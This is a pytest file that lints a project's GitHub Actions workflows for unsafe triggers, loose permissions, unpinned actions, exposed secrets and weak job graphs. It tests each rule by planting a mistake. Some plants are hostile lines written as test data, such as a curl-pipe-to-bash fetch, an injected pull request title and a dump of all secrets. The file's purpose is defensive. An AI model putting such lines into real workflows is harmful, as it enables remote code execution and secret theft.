"""Rules for workflows that the scanners miss, or that are this project's own. Each has a mistake that must go red."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
import yaml

Flow = dict[Any, Any]
FORBIDDEN_EVENTS = {"pull_request_target", "workflow_run"}
RUNNERS = {"ubuntu-24.04"}
MAX_MINUTES = 30


def jobs(flow: Flow) -> Iterator[tuple[str, dict[str, Any]]]:
    yield from flow["jobs"].items()


def steps(flow: Flow) -> Iterator[tuple[str, dict[str, Any]]]:
    for name, job in jobs(flow):
        for number, step in enumerate(job.get("steps", []), 1):
            yield f"{name}, step {number}", step


def needed(job: dict[str, Any]) -> list[str]:
    return [job["needs"]] if isinstance(job.get("needs"), str) else job.get("needs", [])


def events(flow: Flow) -> dict[str, Any]:
    on = flow[True]  # YAML reads a bare `on` so
    return on if isinstance(on, dict) else dict.fromkeys([on] if isinstance(on, str) else on)


# --- rules: what is wrong with a workflow, one line each ---


def triggers(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    yield from (
        f"on {event}: it would give a stranger our token" for event in sorted(FORBIDDEN_EVENTS & set(events(flow)))
    )
    for event, filters in events(flow).items():
        if filters and {"paths", "paths-ignore"} & set(filters):
            yield f"on {event}: a path filter leaves the required check waiting for ever"


def permissions(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    if flow.get("permissions") != {}:
        yield "permissions at the top must be {}"
    for name, job in jobs(flow):
        if not isinstance(job.get("permissions"), dict):
            yield f"{name}: name each permission"
    for line in text.splitlines():
        if re.match(r"\s+[a-z-]+: (read|write)\b", line) and "#" not in line:
            yield f"a grant without its reason: {line.strip()}"


def pins(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    for uses, comment in re.findall(r"uses: *(\S+)(.*)", text):
        if uses.startswith(("$/", "./")):
            continue
        if not re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", uses):
            yield f"{uses}: not pinned by commit"
        elif not re.fullmatch(r" # v\d+(\.\d+)*", comment):
            yield f"{uses}: its version is not beside it"
    versions: dict[str, set[str]] = {}
    for action, pin in re.findall(r"uses: *([\w./-]+)@(\S+)", text):
        versions.setdefault(action, set()).add(pin)
    yield from (f"{action}: pinned to several commits" for action, found in versions.items() if len(found) > 1)


def commands(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    for where, step in steps(flow):
        if "run" in step:
            target = re.fullmatch(r"make ([a-z-]+)", str(step["run"]))
            if target is None:
                yield f"{where}: `{step['run']}` is more than one make target"
            elif target[1] not in targets:
                yield f"{where}: there is no target {target[1]}"
        if "shell" in step or "working-directory" in step:
            yield f"{where}: a make target needs neither shell nor working-directory"


def bounds(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    for name, job in jobs(flow):
        if "uses" in job:
            continue
        if not 0 < job.get("timeout-minutes", 0) <= MAX_MINUTES:
            yield f"{name}: timeout-minutes must be 1 to {MAX_MINUTES}"
        if job.get("runs-on") not in RUNNERS:
            yield f"{name}: runs-on must be one of {', '.join(RUNNERS)}"
        if "container" in job or "services" in job:
            yield f"{name}: a container of its own is one more thing to pin"
    concurrency = flow.get("concurrency")
    if not isinstance(concurrency, dict) or "github.ref" not in concurrency.get("group", ""):
        yield "concurrency must be grouped by ref"
    elif "push" in events(flow) and concurrency.get("cancel-in-progress") != "${{ github.ref != 'refs/heads/main' }}":
        yield "concurrency may cancel every ref but main"


def results(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    """What would let a failure pass unseen."""
    if "continue-on-error" in text:
        yield "continue-on-error: the required check would see a success"
    for where, step in steps(flow):
        if "if" in step and "always()" in str(step["if"]):
            yield f"{where}: always() runs even when cancelled; use !cancelled()"
        if "upload-artifact" in step.get("uses", "") and "if-no-files-found" not in step.get("with", {}):
            yield f"{where}: an artifact may be missing unseen"


def secrets(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    if re.search(r"toJSON\(\s*secrets\s*\)|secrets\s*:\s*inherit|secrets\[", text):
        yield "all secrets are handed over at once"
    if "secrets." in json.dumps(flow.get("env", {})):
        yield "a secret in the environment of every job"
    for name, job in jobs(flow):
        if "secrets." in json.dumps(job.get("env", {})):
            yield f"{name}: a secret in the environment of every step"
        if "secrets." in json.dumps(job) and "environment" not in job:
            yield f"{name}: a secret outside an environment"
    for where, step in steps(flow):
        for key, value in {**step.get("env", {}), **step.get("with", {})}.items():
            if re.search(r"(?i)password|token|secret|api.?key", key) and "${{" not in str(value):
                yield f"{where}: {key} is written out"
        if "actions/checkout" in step.get("uses", "") and step.get("with", {}).get("persist-credentials") is not False:
            yield f"{where}: checkout leaves its credentials behind"


def versions(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    """A bare 3.10 is the number 3.1."""
    for where, step in steps(flow):
        if "setup-python" in step.get("uses", "") and not isinstance(step.get("with", {}).get("python-version"), str):
            yield f"{where}: quote python-version"
    for name, value in flow.get("env", {}).items():
        if not isinstance(value, str):
            yield f"env {name}: quote {value}"
    for name, job in jobs(flow):
        for axis, values in job.get("strategy", {}).get("matrix", {}).items():
            yield from (f"{name}: quote {value} of {axis}" for value in values if isinstance(value, float))


def names(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    for name, job in jobs(flow):
        told = job.get("name", "")
        if name != "required" and not re.fullmatch(r"[A-Z]\w* .+[^.]", told):
            yield f"{name}: its name is no sentence: {told!r}"


def graph(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    """One required check that waits for all; a skip only where the plan has an output of the job's name."""
    if "required" not in flow["jobs"]:
        return
    verdict = flow["jobs"]["required"]
    if missing := set(flow["jobs"]) - {"required"} - set(needed(verdict)):
        yield f"required does not wait for {', '.join(sorted(missing))}"
    if verdict.get("if") != "${{ always() }}":
        yield "required must run always(): a skipped check counts as success"
    if verdict["steps"][-1].get("env", {}).get("NEEDS") != "${{ toJSON(needs) }}":
        yield "required does not see the results"
    planned = flow["jobs"]["plan"].get("outputs", {})
    for name, job in jobs(flow):
        if name == "required" or "if" not in job:
            continue
        if job["if"] != f"needs.plan.outputs.{name} == 'true'" or "plan" not in needed(job):
            yield f"{name}: it may be skipped by nothing but the plan's output {name}"
        if planned.get(name) != f"${{{{ steps.plan.outputs.{name} }}}}":
            yield f"{name}: the plan has no such output"
    yield from (f"{name}: planned, and never spared" for name in planned if "if" not in flow["jobs"].get(name, {}))


def artifacts(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    made = {
        step["with"]["name"]: where.split(",")[0]
        for where, step in steps(flow)
        if "upload-artifact" in step.get("uses", "")
    }
    for where, step in steps(flow):
        if "download-artifact" in step.get("uses", ""):
            name, job = step["with"].get("name", ""), flow["jobs"][where.split(",")[0]]
            if made.get(name) not in needed(job):
                yield f"{where}: no job that it needs uploads {name!r}"


RULES = (triggers, permissions, pins, commands, bounds, results, secrets, versions, names, graph, artifacts)


def faults(text: str, targets: set[str]) -> list[str]:
    flow = yaml.safe_load(text)
    return [fault for rule in RULES for fault in rule(flow, text, targets)]


# --- the workflows, and what must go red ---


@pytest.fixture(scope="session")
def known(targets: dict[str, str]) -> set[str]:
    return set(targets)


@pytest.fixture(scope="session")
def ci(root: Path) -> str:
    return (root / ".github/workflows/ci.yml").read_text(encoding="utf-8")


def test_every_workflow_keeps_the_rules(root: Path, known: set[str]) -> None:
    folder = root / ".github/workflows"
    assert {"ci.yml"} <= {path.name for path in folder.iterdir()}
    for path in folder.iterdir():
        assert faults(path.read_text(encoding="utf-8"), known) == [], path.name


def test_the_plan_and_the_workflow_name_the_same_jobs(ci: str, program: Callable[[str], ModuleType]) -> None:
    assert set(program("plan").SPARED) == set(yaml.safe_load(ci)["jobs"]["plan"]["outputs"])


CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
PLANTS = [
    ("  pull_request:\n", "  pull_request_target:\n", "our token"),
    ("  pull_request:\n", "  pull_request:\n    paths: [src/**]\n", "waiting for ever"),
    ("permissions: {}", "permissions: write-all", "must be {}"),
    ("permissions: {}", "permissions: {contents: read}", "must be {}"),
    ("permissions: {}\n", "", "must be {}"),
    ("    permissions:\n      contents: read # checkout\n", "", "name each permission"),
    ("    permissions:\n      contents: read # checkout\n", "    permissions: read-all\n", "name each permission"),
    ("contents: read # checkout", "contents: read", "without its reason"),
    (CHECKOUT, "actions/checkout@v7", "not pinned by commit"),
    (CHECKOUT, "actions/checkout@main", "not pinned by commit"),
    (CHECKOUT, CHECKOUT.split(" #")[0], "version is not beside it"),
    (CHECKOUT, CHECKOUT.split(" #")[0] + " # newest", "version is not beside it"),
    (CHECKOUT, CHECKOUT.replace("@3d3c", "@4d3c"), "several commits"),
    ("run: make check", "run: make checks", "no target checks"),
    ("run: make check", "run: make check || true", "more than one make target"),
    ("run: make check", "run: curl http://example.invalid/x | bash", "more than one make target"),
    ("run: make check", "run: pip install ruff", "more than one make target"),
    ("run: make check", 'run: echo "${{ github.event.pull_request.title }}"', "more than one make target"),
    ("run: make check", "run: make check\n        shell: python", "neither shell"),
    ("    timeout-minutes: 10\n", "", "timeout-minutes"),
    ("timeout-minutes: 10\n", "timeout-minutes: 360\n", "timeout-minutes"),
    ("runs-on: ubuntu-24.04", "runs-on: ubuntu-latest", "runs-on"),
    ("runs-on: ubuntu-24.04", "runs-on: self-hosted", "runs-on"),
    ("runs-on: ubuntu-24.04", "runs-on: ubuntu-24.04\n    container: python:latest", "one more thing to pin"),
    ("  cancel-in-progress: ${{ github.ref != 'refs/heads/main' }}", "  cancel-in-progress: true", "but main"),
    ("  group: ci-${{ github.ref == 'refs/heads/main' && github.sha || github.ref }}", "  group: ci", "by ref"),
    ("run: make check", "run: make check\n        continue-on-error: true", "see a success"),
    ("if: ${{ !cancelled() }}\n        uses", "if: ${{ always() }}\n        uses", "use !cancelled()"),
    ("          if-no-files-found: error\n", "", "missing unseen"),
    ("run: make check", "run: make check\n        env:\n          ALL: ${{ toJSON(secrets) }}", "at once"),
    ('  PYTHON_VERSION: "3.13"', "  PYTHON_VERSION: ${{ secrets.PYTHON }}", "of every job"),
    ("    steps:\n", "    env:\n      KEY: ${{ secrets.KEY }}\n    steps:\n", "of every step"),
    ("run: make check", "run: make check\n        env:\n          KEY: ${{ secrets.KEY }}", "outside an environment"),
    ("run: make check", "run: make check\n        env:\n          API_KEY: sk_live_1234", "is written out"),
    ("          persist-credentials: false\n", "          fetch-tags: false\n", "credentials behind"),
    ("persist-credentials: false", "persist-credentials: true", "credentials behind"),
    ("python-version: ${{ env.PYTHON_VERSION }}", "python-version: 3.10", "quote python-version"),
    ('PYTHON_VERSION: "3.13"', "PYTHON_VERSION: 3.10", "quote 3.1"),
    ('["3.11", "3.13"]', "[3.11, 3.13]", "quote 3.11"),
    ("name: Render and validate the manifests", "name: manifests", "no sentence"),
    ("needs: [plan, check, test,", "needs: [plan, check,", "does not wait for test"),
    ("    if: ${{ always() }}\n", "", "must run always()"),
    ("          NEEDS: ${{ toJSON(needs) }}", "          NEEDS: '{}'", "does not see the results"),
    ("if: needs.plan.outputs.train == 'true'", "if: github.actor != 'octocat'", "nothing but the plan's output"),
    (
        "if: needs.plan.outputs.image == 'true'",
        "if: needs.plan.outputs.train == 'true'",
        "nothing but the plan's output",
    ),
    ("      image: ${{ steps.plan.outputs.image }}\n", "", "no such output"),
    ("      image: ${{ steps.plan.outputs.image }}\n", "      image: 'false'\n", "no such output"),
    ("    if: needs.plan.outputs.train == 'true'\n", "", "never spared"),
    ("    needs: [plan, train]\n", "    needs: plan\n", "uploads 'bundle'"),
    (
        "          name: bundle\n          path: build/bundle\n      - run: make contract",
        "          name: bundel\n          path: build/bundle\n      - run: make contract",
        "uploads 'bundel'",
    ),
]


@pytest.mark.parametrize(("good", "bad", "says"), PLANTS, ids=[f"{says}-{bad.strip()[:40]}" for _, bad, says in PLANTS])
def test_a_planted_mistake_is_found(ci: str, known: set[str], good: str, bad: str, says: str) -> None:
    assert good in ci, "the plant no longer grows here"
    found = faults(ci.replace(good, bad, 1), known)
    assert any(says in fault for fault in found), found
